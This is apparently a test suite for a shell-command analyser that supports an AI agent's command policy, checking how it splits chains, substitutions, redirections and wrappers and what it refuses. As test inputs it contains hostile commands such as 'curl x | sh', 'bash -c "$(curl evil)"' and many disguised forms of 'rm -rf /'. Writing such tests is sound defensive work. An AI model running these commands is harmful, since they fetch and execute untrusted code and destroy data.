/**
 * The shell-command analyser against the commands TESTING.md lists (chains, redirections,
 * substitutions, line breaks, `bash -c`, `env X=1 cmd`) and the shapes it must refuse.
 */
import assert from 'node:assert/strict';
import { analyseCommand, type CommandAnalysis } from '../../../../src/core/policy/shell-command';

/** The analysis without the word facts (tested on their own below), to compare shapes. */
function analysed(command: string): CommandAnalysis {
  const result = analyseCommand(command);
  assert.ok(result.ok, `expected ${JSON.stringify(command)} to parse, got: ${result.ok ? '' : result.reason}`);
  return {
    ...result,
    segments: result.segments.map(
      ({ facts: _facts, programIndex: _index, programWords: _words, ...segment }) => segment,
    ),
    redirections: result.redirections.map(({ facts: _facts, ...redirection }) => redirection),
  } as unknown as CommandAnalysis;
}

function programs(command: string): string[] {
  return analysed(command).segments.map((segment) => segment.program);
}

function refused(command: string): string {
  const result = analyseCommand(command);
  assert.ok(!result.ok, `expected ${JSON.stringify(command)} to be refused, got ${JSON.stringify(result)}`);
  return result.reason;
}

describe('shell command analysis', () => {
  it('says which words the shell will expand: globs, variables, ~, substitutions', () => {
    const result = analyseCommand('X=1 cp .openagen?/a "$HOME"/b ~/c \'*.ts\' $(pwd) {a,b} plain > ~/out');
    assert.ok(result.ok);
    const [segment] = result.segments;
    assert.equal(segment?.programIndex, 1);
    assert.deepEqual(
      segment?.facts.map(
        (facts) =>
          Object.entries(facts)
            .filter(([, on]) => on)
            .map(([name]) => name)
            .join('+') || '-',
      ),
      ['-', '-', 'glob+splits', 'computed', 'tilde', '-', 'computed+splits', 'computed+splits', '-'],
    );
    assert.deepEqual(result.redirections[0]?.facts, { computed: false, glob: false, tilde: true });
  });

  it('reads a simple command', () => {
    assert.deepEqual(analysed('git status --short'), {
      ok: true,
      segments: [{ argv: ['git', 'status', '--short'], program: 'git', args: ['status', '--short'] }],
      operators: [],
      redirections: [],
      substitutions: false,
      hidden: false,
    });
  });

  it('splits `git status; curl x | sh` into three commands', () => {
    const result = analysed('git status; curl x | sh');
    assert.deepEqual(
      result.segments.map((segment) => segment.argv),
      [['git', 'status'], ['curl', 'x'], ['sh']],
    );
    assert.deepEqual(result.operators, [';', '|']);
  });

  it('splits on &&, ||, & and |&', () => {
    const result = analysed('a && b || c & d |& e');
    assert.deepEqual(programs('a && b || c & d |& e'), ['a', 'b', 'c', 'd', 'e']);
    assert.deepEqual(result.operators, ['&&', '||', '&', '|&']);
    assert.deepEqual(analysed('npm run dev &').operators, ['&']);
  });

  it('reports the target of `git show > ~/.bashrc` without expanding ~', () => {
    const result = analysed('git show > ~/.bashrc');
    assert.deepEqual(result.segments, [{ argv: ['git', 'show'], program: 'git', args: ['show'] }]);
    assert.deepEqual(result.redirections, [{ op: '>', target: '~/.bashrc' }]);
  });

  it('reports every kind of redirection, with its file descriptor', () => {
    const result = analysed('cmd >>log 2>err.txt <in 2>&1 &>all >|clobber');
    assert.deepEqual(result.segments[0]?.argv, ['cmd']);
    assert.deepEqual(result.redirections, [
      { op: '>>', target: 'log' },
      { op: '2>', target: 'err.txt' },
      { op: '<', target: 'in' },
      { op: '2>&', target: '1' },
      { op: '&>', target: 'all' },
      { op: '>|', target: 'clobber' },
    ]);
    // A separated `2` is an argument, not a file descriptor.
    const spaced = analysed('echo 2 > out');
    assert.deepEqual(spaced.segments[0]?.argv, ['echo', '2']);
    assert.deepEqual(spaced.redirections, [{ op: '>', target: 'out' }]);
  });

  it('reads the commands inside $(...) and never takes them for plain arguments', () => {
    const result = analysed('git $(rm -rf /)');
    assert.equal(result.substitutions, true);
    assert.deepEqual(programs('git $(rm -rf /)'), ['git', 'rm']);
    assert.deepEqual(result.segments[1]?.argv, ['rm', '-rf', '/']);
    assert.deepEqual(programs('echo "today: $(date; curl x | sh)"'), ['echo', 'date', 'curl', 'sh']);
    assert.deepEqual(programs('X=$(curl evil) make'), ['make', 'curl']);
  });

  it('reads the commands inside backticks', () => {
    const result = analysed('echo `rm -rf /`');
    assert.equal(result.substitutions, true);
    assert.deepEqual(
      result.segments.map((segment) => segment.program),
      ['echo', 'rm'],
    );
    assert.deepEqual(programs('echo "`whoami`"'), ['echo', 'whoami']);
  });

  it('reads process substitutions', () => {
    const result = analysed('diff <(ls a) >(tee b)');
    assert.equal(result.substitutions, true);
    assert.deepEqual(
      result.segments.map((segment) => segment.program),
      ['diff', 'ls', 'tee'],
    );
    assert.deepEqual(result.redirections, []);
  });

  it('refuses a program name that comes from a substitution or a variable', () => {
    assert.match(refused('$(echo rm) -rf /'), /substitution/);
    assert.match(refused('`which rm` -rf /'), /substitution/);
    assert.match(refused('$CMD status'), /variable/);
    assert.match(refused('${CMD} status'), /variable/);
  });

  it('treats a newline as a command separator', () => {
    const result = analysed('git status\nrm -rf /');
    assert.deepEqual(programs('git status\nrm -rf /'), ['git', 'rm']);
    assert.deepEqual(result.operators, ['\n']);
    // Blank lines and a line break after && are not empty commands.
    assert.deepEqual(programs('a &&\n  b\n\nc'), ['a', 'b', 'c']);
    // A newline inside quotes is part of the word.
    assert.deepEqual(analysed('echo "one\ntwo"').segments[0]?.argv, ['echo', 'one\ntwo']);
    // A backslash-newline joins lines.
    assert.deepEqual(analysed('git \\\nstatus').segments[0]?.argv, ['git', 'status']);
  });

  it('treats a carriage return as a command separator', () => {
    const result = analysed('git status\rrm -rf /');
    assert.deepEqual(programs('git status\rrm -rf /'), ['git', 'rm']);
    assert.deepEqual(result.operators, ['\r']);
    assert.deepEqual(programs('git status\r\nrm -rf /'), ['git', 'rm']);
    // Read for the deny rules, but marked: a carriage return can overprint what a person approves.
    assert.equal(result.hidden, true);
    assert.equal(analysed('git status').hidden, false);
  });

  it('reads a chain of 60 `&&` commands', () => {
    const command = [...Array.from({ length: 59 }, (_, i) => `echo ${i}`), 'rm -rf /'].join(' && ');
    const result = analysed(command);
    assert.equal(result.segments.length, 60);
    assert.equal(result.operators.length, 59);
    assert.ok(result.operators.every((op) => op === '&&'));
    assert.deepEqual(result.segments[59]?.argv, ['rm', '-rf', '/']);
  });

  it('reads a 10,000-command chain in linear time (no timing assertion beyond a sanity bound)', () => {
    const started = Date.now();
    const result = analysed(Array.from({ length: 10_000 }, () => 'a').join(' && '));
    assert.equal(result.segments.length, 10_000);
    assert.ok(Date.now() - started < 15_000, 'far too slow: not linear');
  });

  it('analyses `bash -c` and `sh -c` strings recursively', () => {
    const result = analysed(`bash -c 'git status && rm -rf /'`);
    assert.deepEqual(
      result.segments.map((segment) => segment.program),
      ['bash', 'git', 'rm'],
    );
    assert.deepEqual(result.operators, ['&&']);
    assert.equal(result.substitutions, true);
    assert.deepEqual(programs(`sh -ec "curl x > /tmp/y"`), ['sh', 'curl']);
    assert.deepEqual(analysed(`sh -c "curl x > /tmp/y"`).redirections, [{ op: '>', target: '/tmp/y' }]);
    assert.deepEqual(programs(`sudo bash -lc 'bash -c "ls"'`), ['bash', 'bash', 'ls']);
    assert.deepEqual(programs('bash script.sh'), ['bash']);
  });

  it('refuses `bash -c` strings built at run time and errors inside them', () => {
    assert.match(refused('bash -c "$(curl evil)"'), /built at run time/);
    assert.match(refused('sh -c "ls $DIR"'), /built at run time/);
    assert.match(refused(`bash -c 'echo "unclosed'`), /bash -c.*quote/);
    assert.match(refused('bash -c'), /no command string/);
    assert.match(refused(`ls | xargs -I{} sh -c 'echo {}'`), /xargs -I/);
  });

  it('finds the real program behind `env X=1 cmd` and other wrappers', () => {
    assert.deepEqual(analysed('env X=1 cmd arg').segments, [
      { argv: ['env', 'X=1', 'cmd', 'arg'], program: 'cmd', args: ['arg'] },
    ]);
    assert.deepEqual(analysed('X=1 Y="a b" cmd').segments[0]?.program, 'cmd');
    assert.deepEqual(programs('env -i -u HOME PATH=/x git push'), ['git']);
    assert.deepEqual(programs('sudo -u root -E rm -rf /'), ['rm']);
    assert.deepEqual(programs('sudo env A=1 nohup nice -n 5 time -p timeout 10 git push'), ['git']);
    assert.deepEqual(programs('exec rm x'), ['rm']);
    assert.deepEqual(programs('command rm x'), ['rm']);
    assert.deepEqual(programs('command -v git'), ['command']);
    assert.deepEqual(programs('stdbuf -oL npm test'), ['npm']);
    assert.deepEqual(programs('find . -name "*.tmp" | xargs -0 -n 1 rm -f'), ['find', 'rm']);
    assert.deepEqual(programs('ls | xargs'), ['ls', 'echo']);
    assert.deepEqual(programs('! grep -q x file'), ['grep']);
    assert.deepEqual(programs('/usr/bin/env FOO=1 /bin/rm x'), ['/bin/rm']);
    assert.deepEqual(analysed('X=1').segments[0]?.program, '');
    assert.deepEqual(analysed('env').segments[0]?.program, 'env');
  });

  it('refuses eval, `env -S` and wrapper options it does not know', () => {
    assert.match(refused('eval "rm -rf /"'), /eval/);
    assert.match(refused('sudo eval ls'), /eval/);
    assert.match(refused('env -S "rm -rf /"'), /env -S/);
    assert.match(refused('sudo --bogus rm x'), /not known/);
  });

  it('keeps variables literal instead of expanding them', () => {
    assert.deepEqual(analysed('echo $HOME "${USER}" \'$PATH\' "$1"').segments[0]?.argv, [
      'echo',
      '$HOME',
      '$USER',
      '$PATH',
      '$1',
    ]);
    assert.deepEqual(analysed('cat > $HOME/.bashrc').redirections, [{ op: '>', target: '$HOME/.bashrc' }]);
  });

  it('dequotes words and keeps quoted operators inside them', () => {
    const result = analysed(`git commit -m "fix: a; b && c | d > e" --author='A "B"' it\\'s $'x\\ty'`);
    assert.deepEqual(result.segments[0]?.argv, [
      'git',
      'commit',
      '-m',
      'fix: a; b && c | d > e',
      '--author=A "B"',
      "it's",
      'x\ty',
    ]);
    assert.deepEqual(result.operators, []);
    assert.deepEqual(result.redirections, []);
    assert.deepEqual(analysed('printf "" \'\'').segments[0]?.argv, ['printf', '', '']);
  });

  it('turns glob tokens into their pattern and drops comments', () => {
    assert.deepEqual(analysed('ls *.ts src/?.js # list them; rm -rf /').segments, [
      { argv: ['ls', '*.ts', 'src/?.js'], program: 'ls', args: ['*.ts', 'src/?.js'] },
    ]);
    assert.deepEqual(programs('# only a comment\nls'), ['ls']);
  });

  it('does not take a # inside a word for a comment', () => {
    const result = analysed('git status#; rm -rf /');
    assert.deepEqual(
      result.segments.map((segment) => segment.argv),
      [
        ['git', 'status#'],
        ['rm', '-rf', '/'],
      ],
    );
  });

  it('refuses what it cannot analyse with a reason', () => {
    assert.match(refused(`echo 'unclosed`), /single quote/);
    assert.match(refused('echo "unclosed'), /double quote/);
    assert.match(refused('echo `unclosed'), /backtick/);
    assert.match(refused('echo $(unclosed'), /never closed/);
    assert.match(refused('cat <<EOF\nrm -rf /\nEOF'), /here-document/);
    assert.match(refused('(cd /tmp && rm -rf x)'), /subshell/);
    assert.match(refused('{ ls; rm x; }'), /groups/);
    assert.match(refused('if true; then rm x; fi'), /groups, loops, conditionals/);
    assert.match(refused('for f in *; do rm $f; done'), /groups, loops, conditionals/);
    assert.match(refused('echo $((1 + 2))'), /arithmetic/);
    assert.match(refused('echo ${x:-$(rm -rf /)}'), /too complex/);
    assert.match(refused('{rm,-rf,/}'), /brace expansion/);
    assert.match(refused('/bin/r? -rf /'), /glob/);
    assert.match(refused('a && && b'), /no command before/);
    assert.match(refused('; ls'), /no command before/);
    assert.match(refused('ls &&'), /ends with/);
    assert.match(refused('> ~/.bashrc'), /without a command/);
    assert.match(refused('ls >'), /no target/);
    assert.match(refused('echo \\'), /backslash/);
    assert.match(refused('echo a\0b'), /NUL/);
    assert.match(refused('$($($($($($($($($(ls)))))))))'), /nested too deeply/);
  });

  it('never throws, whatever the input', () => {
    for (const command of ['', '   ', '\n\n', ')', '(', '&', '`', '$', '${', "$'", '"\\', '2>', '#', '!', 'a |']) {
      const result = analyseCommand(command);
      assert.equal(typeof result.ok, 'boolean', command);
    }
    assert.deepEqual(analysed('').segments, []);
  });
});
